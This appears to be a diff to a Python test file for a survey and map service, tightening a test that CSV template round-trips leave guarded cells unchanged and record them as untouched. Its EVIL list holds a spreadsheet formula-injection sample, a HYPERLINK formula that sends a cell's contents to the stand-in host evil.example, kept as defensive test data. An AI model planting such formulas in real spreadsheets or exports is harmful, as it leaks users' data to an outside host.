@@ -10,12 +10,12 @@ import zipfile
 import pytest
 from conftest import csrf_token, login_as, make_app
 from planner_support import build_planner_store
-from sqlalchemy import update
+from sqlalchemy import select, update
 from survey_support import add_provider, submissions
 
 from mapsvc.core import _csv
 from mapsvc.core.codes import nfkc
-from mapsvc.core.models import Area
+from mapsvc.core.models import Area, ImportRun
 
 EVIL = [
     '=HYPERLINK("http://evil.example/?"&A1,"見る")',
@@ -154,9 +154,14 @@ def test_a_template_round_trip_keeps_the_stored_name(evil):
         content_type="multipart/form-data",
     )
     assert r.status_code == 302
-    # nothing changed: the guard ' is not a change
+    # nothing changed: the guard ' is not a change (and since issue 14 item 12 a row nobody
+    # changed or signed is "untouched", not queued as a confirmation)
     subs = [s for uid in uids for s in submissions(services, uid)]
-    assert subs and all(s.payload["changes"] == {} for s in subs)
+    assert all(s.payload["changes"] == {} for s in subs)
+    with services.store.session() as session:
+        run = session.scalars(select(ImportRun).order_by(ImportRun.id.desc())).first()
+    assert run is not None and run.counts["changes"] == 0
+    assert run.counts["rejected"] == 0 and run.counts["untouched"] == run.counts["rows"] > 0
 
 
 def test_planner_csvs(sqlite_services, tmp_path):
